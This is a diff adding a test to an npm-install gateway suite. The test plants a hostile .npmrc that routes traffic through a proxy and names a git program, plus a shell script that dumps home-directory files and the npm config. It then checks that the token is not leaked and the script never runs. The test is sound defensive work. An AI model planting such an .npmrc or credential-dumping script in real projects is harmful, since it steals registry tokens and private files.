@@ -334,6 +334,41 @@ describe('POST /api/gateway/operations: npm-install', () => {
     expect(registry.leaks).toEqual([]);
   });
 
+  it("a hostile project .npmrc cannot route the token through a proxy or run a program in the credential process", async () => {
+    const captured: string[] = [];
+    const trap = http.createServer((req, res) => {
+      captured.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
+      req.resume();
+      res.writeHead(404);
+      res.end();
+    });
+    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
+    const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
+    const stolen = path.join(run.sandbox.workspace, 'hostile', 'stolen.txt');
+    const evil = `#!/bin/sh\ncat "$HOME"/* "$npm_config_userconfig" > ${stolen} 2>&1\nexit 1\n`;
+    const files = {
+      '.npmrc': `proxy=${trapUrl}\nhttps-proxy=${trapUrl}\nnoproxy=\nstrict-ssl=false\ngit=${path.join(run.sandbox.workspace, 'hostile', 'evil.sh')}\n`,
+      'package.json': JSON.stringify({ name: 'hostile', version: '1.0.0', private: true, dependencies: { [registry.packageName]: registry.version, gitdep: 'git+http://127.0.0.1:9/x.git' } }),
+      'evil.sh': evil,
+    };
+    const script = ['mkdir -p hostile', ...Object.entries(files).map(([name, content]) => `printf '%s' '${content.replaceAll("'", "'\\''")}' > hostile/${name}`), 'chmod 755 hostile/evil.sh'].join(' && ');
+    const planted = await h.host.exec(run.sandbox, { argv: ['sh', '-c', script], identity: 'agent' });
+    expect(planted.exitCode, planted.stderr).toBe(0);
+    const before = registry.requests.length;
+    try {
+      await h.operate(run.bearer, { kind: 'npm-install', registry: registry.origin, secret: 'NPM_TOKEN', dir: 'hostile', args: ['--no-audit', '--no-fund'] });
+      await h.operate(run.bearer, { kind: 'npm-install', registry: registry.origin, secret: 'NPM_TOKEN', dir: 'hostile', args: [registry.packageName, '--no-audit', '--no-fund'] });
+      expect(captured.filter((line) => line.includes(secrets.NPM.value))).toEqual([]);
+      expect(captured).toEqual([]);
+      // npm went to the registry itself, with the token, despite the project's proxy.
+      expect(registry.requests.slice(before).some((r) => r.authorized)).toBe(true);
+      // The git dependency was refused, so the program the .npmrc named never ran.
+      expect(existsSync(stolen)).toBe(false);
+    } finally {
+      await new Promise<void>((resolve) => trap.close(() => resolve()));
+    }
+  });
+
   it('refuses flags that would change the registry, config or scripts', async () => {
     for (const args of [['--registry=http://127.0.0.1:1/'], ['--userconfig=/tmp/x'], ['git+https://example.com/x.git'], ['file:../x']]) {
       const refused = await h.operate(run.bearer, { kind: 'npm-install', registry: registry.origin, secret: 'NPM_TOKEN', args });
